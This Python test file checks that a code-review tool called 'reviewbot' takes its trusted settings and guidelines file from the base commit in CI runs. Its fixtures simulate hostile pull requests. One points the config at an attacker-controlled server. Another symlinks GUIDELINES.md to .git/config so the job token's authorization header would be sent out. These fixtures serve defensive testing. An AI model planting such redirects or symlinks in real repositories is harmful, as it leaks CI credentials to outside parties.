"""Trust comes from the base in every CI run, not only in a pull_request event (issue 14, holes C and
D of the outside probe). `reviewbot review` inside GitHub Actions or GitLab CI, for any event and any
stage, takes the settings that decide egress (config.TRUST) from a base commit -- the one the event
names, else the base of the range it is asked to review -- and with none keeps them at their
defaults; the guidelines file is read from that commit, never from the checked-out work tree. Real
git histories, real CLI processes, loopback fakes."""
from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from reviewbot.core import Report
from tests.ci.test_ci_command import ci_env, run_ci
from tests.ci.test_ci_trust import PLATFORM_TOKEN, PR, World, cloud_toml

EXTRAHEADER = 'AUTHORIZATION: basic ' + 'eC1hY2Nlc3MtdG9rZW46Z2hzX1BsYXRmb3JtSm9iVG9rZW4wMTIzNDU2Nzg5'


def review(pr: PR, *args: str, **env: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, '-m', 'reviewbot', 'review', *args], cwd=pr.repo.path,
                          capture_output=True, env=ci_env(**env), timeout=300, check=False)


def hostile_pr(w: World) -> PR:
    pr = w.pull_request({'.reviewbot.toml': cloud_toml(w.legit.base_url)},
                        {'.reviewbot.toml': cloud_toml(w.attacker.base_url)})
    pr.repo.git('checkout', '-q', '--detach', pr.head)  # the pull request's head checked out
    return pr


def event(w: World, pr: PR, name: str, payload: dict) -> dict[str, str]:
    """A GitHub Actions run for an event whose payload has no pull_request object."""
    env = w.github_env(pr)
    repo = {'full_name': 'acme/widgets', 'private': False, 'visibility': 'public', 'default_branch': 'main'}
    Path(env['GITHUB_EVENT_PATH']).write_text(json.dumps({'repository': repo, **payload}))
    env.update(GITHUB_EVENT_NAME=name, GITHUB_SHA=pr.head, GITHUB_REF='refs/heads/main')
    return env


def assert_base_trusted(w: World, proc: subprocess.CompletedProcess) -> None:
    err = proc.stderr.decode()
    w.assert_attacker_got_nothing()
    assert proc.returncode == 1, err  # the planted AWS key is found
    assert len(w.legit.posts) == 1, err  # the base's endpoint is used
    (line,) = [ln for ln in err.splitlines() if 'config: ignored' in ln]
    assert 'cloud.base_url' in line and 'base commit' in line


# -- C: any CI event, any stage ----------------------------------------------------------------------

def test_issue_comment_review_stage_ci_trusts_the_range_base(world: World):
    """ChatOps "/review" on a PR (issue_comment: no pull_request object, the head checked out)."""
    pr = hostile_pr(world)
    env = event(world, pr, 'issue_comment', {'issue': {'number': 7, 'pull_request': {'url': 'x'}},
                                             'comment': {'body': '/review'}})
    proc = review(pr, '--stage', 'ci', '--range', f'{pr.base}...{pr.head}', '--format', 'json', **env)
    assert_base_trusted(world, proc)
    assert Report.from_dict(json.loads(proc.stdout)).notes[0].startswith('config: ignored cloud.base_url')


def test_merge_group_trusts_the_queue_base(world: World):
    """merge_group names its base: that commit's config is trusted, whatever range is reviewed."""
    pr = hostile_pr(world)
    env = event(world, pr, 'merge_group', {'merge_group': {'base_sha': pr.base, 'head_sha': pr.head}})
    proc = review(pr, '--stage', 'ci', '--range', f'{pr.head}~1..{pr.head}', **env)
    assert_base_trusted(world, proc)


def test_plain_review_base_in_a_pull_request_job(world: World):
    """`reviewbot review --base origin/main` (stage cli) inside a pull_request job: still the base."""
    pr = hostile_pr(world)
    pr.repo.git('remote', 'add', 'origin', 'https://github.com/acme/widgets.git')  # the gate verifies it
    pr.repo.git('update-ref', 'refs/remotes/origin/main', pr.base)
    proc = review(pr, '--base', 'origin/main', **world.github_env(pr),
                  REVIEWBOT_GITHUB_API_URL=world.gh.base_url)
    assert_base_trusted(world, proc)


def test_gitlab_branch_pipeline_trusts_the_range_base(world: World):
    """A GitLab pipeline that is not a merge-request pipeline: the base of the range reviewed."""
    pr = hostile_pr(world)
    env = world.gitlab_env(pr)
    for k in ('CI_MERGE_REQUEST_IID', 'CI_MERGE_REQUEST_DIFF_BASE_SHA', 'CI_MERGE_REQUEST_PROJECT_ID',
              'CI_MERGE_REQUEST_SOURCE_PROJECT_ID'):
        env.pop(k)
    env['CI_PIPELINE_SOURCE'] = 'push'
    proc = review(pr, '--stage', 'ci', '--range', f'{pr.base}..{pr.head}', **env)
    err = proc.stderr.decode()
    world.assert_attacker_got_nothing()
    assert proc.returncode == 1 and 'config: ignored cloud.base_url' in err, err


def test_ci_run_without_a_base_keeps_trusted_keys_at_defaults(world: World):
    """A diff file in an issue_comment run: no base commit anywhere -> cloud off, one line says why."""
    pr = hostile_pr(world)
    diff = world.tmp / 'pr.diff'
    diff.write_bytes(subprocess.run(['git', 'diff', pr.base, pr.head], cwd=pr.repo.path,
                                    capture_output=True, check=True).stdout)
    env = event(world, pr, 'issue_comment', {'issue': {'number': 7}, 'comment': {'body': '/review'}})
    proc = review(pr, '--diff', str(diff), **env)
    err = proc.stderr.decode()
    world.assert_attacker_got_nothing()
    assert world.legit.requests == [] and proc.returncode == 1, err
    (line,) = [ln for ln in err.splitlines() if 'config: ignored' in ln]
    assert 'the defaults' in line and 'no base commit' in line


def test_outside_ci_the_checkout_config_is_used(world: World):
    """A developer's own machine: nothing changes, the checked-out config is the config."""
    pr = world.pull_request({'.reviewbot.toml': cloud_toml(world.attacker.base_url)},
                            {'.reviewbot.toml': cloud_toml(world.legit.base_url)})
    pr.repo.git('checkout', '-q', '--detach', pr.head)
    env = {'OPENAI_API_KEY': 'sk-dev', 'REVIEWBOT_CACHE_DIR': str(world.tmp / 'cache'),
           'REVIEWBOT_GITHUB_API_URL': world.gh.base_url, 'GITHUB_TOKEN': PLATFORM_TOKEN}
    pr.repo.git('remote', 'add', 'origin', 'https://github.com/acme/widgets.git')
    proc = review(pr, '--range', f'{pr.base}...{pr.head}', **env)
    err = proc.stderr.decode()
    assert 'config: ignored' not in err and world.attacker.requests == []
    assert proc.returncode == 1 and len(world.legit.posts) == 1, err


# -- D: the guidelines file --------------------------------------------------------------------------

def guidelines_pr(w: World, link_to: str) -> PR:
    """Base: the model on the maintainers' in-house server (recorded by the fake) with guidelines;
    the head replaces GUIDELINES.md by a symbolic link to `link_to`."""
    base_cfg = ('reviewers = ["secrets", "model"]\nguidelines = "GUIDELINES.md"\nmodel_findings = "info"\n'
                f'server = "{w.attacker.origin}"\nserver_is_local = true\n')
    pr = w.pull_request({'.reviewbot.toml': base_cfg, 'GUIDELINES.md': 'Be nice to the parser.\n'}, {})
    r = pr.repo
    r.git('config', 'http.https://github.com/.extraheader', EXTRAHEADER)  # as actions/checkout does
    r.git('checkout', '-q', 'feature')
    (r.path / 'GUIDELINES.md').unlink()
    (r.path / 'GUIDELINES.md').symlink_to(link_to)
    head = r.commit('guidelines link')
    r.git('checkout', '-q', '--detach', head)
    return PR(r, pr.base, head, head)


def test_ci_reads_the_guidelines_from_the_base_commit(world: World):
    """The head links GUIDELINES.md to .git/config (the job token's extraheader): CI reads the base's
    blob, so the server gets the maintainers' guidelines and never the git config."""
    pr = guidelines_pr(world, '.git/config')
    proc = run_ci(pr.repo.path, **world.github_env(pr))
    err = proc.stderr.decode()
    # (the fake answers only the first steps of a server: the review then stops with one line)
    assert 'Traceback' not in err and len(err.strip().splitlines()) <= 2, err
    got = world.attacker.received()
    assert b'extraheader' not in got and b'AUTHORIZATION' not in got
    assert b'Be nice to the parser.' in got, err  # the base's guidelines did reach the prompt


def test_review_refuses_guidelines_through_a_symlink(world: World):
    """Outside CI the work tree is read, but never through a symbolic link: one line, exit 2."""
    pr = guidelines_pr(world, '.git/config')
    proc = review(pr, '--range', f'{pr.base}...{pr.head}', REVIEWBOT_CACHE_DIR=str(world.tmp / 'c'))
    err = proc.stderr.decode()
    assert proc.returncode == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and 'guidelines' in lines[0] and 'symbolic link' in lines[0], err
    assert b'AUTHORIZATION' not in world.attacker.received()


def test_pre_commit_hook_in_a_pull_request_job(world: World):
    """`pre-commit run` in a pull request's job runs the reviewbot hook on the head's checkout: the
    hook takes trusted keys from the base too (here the base has no cloud: nothing is sent)."""
    stages = ['pre-commit', 'ci', 'cli']
    pr = world.pull_request({'.reviewbot.toml': 'reviewers = ["secrets"]\n'},
                            {'.reviewbot.toml': cloud_toml(world.attacker.base_url, stages=stages)})
    pr.repo.git('checkout', '-q', '--detach', pr.head)
    pr.repo.write('more.py', 'import os\nprint(os.environ)\n')
    pr.repo.git('add', 'more.py')
    pr.repo.git('remote', 'add', 'origin', 'https://github.com/acme/widgets.git')  # the gate verifies it
    env = ci_env(**world.github_env(pr), REVIEWBOT_GITHUB_API_URL=world.gh.base_url)
    proc = subprocess.run([sys.executable, '-m', 'reviewbot', 'hook', '--stage', 'pre-commit'],
                          cwd=pr.repo.path, capture_output=True, env=env, timeout=300, check=False)
    err = proc.stderr.decode()
    world.assert_attacker_got_nothing()
    assert proc.returncode == 0 and 'Traceback' not in err, err
    (line,) = [ln for ln in err.splitlines() if 'config: ignored' in ln]
    assert 'cloud.base_url' in line and 'base commit' in line
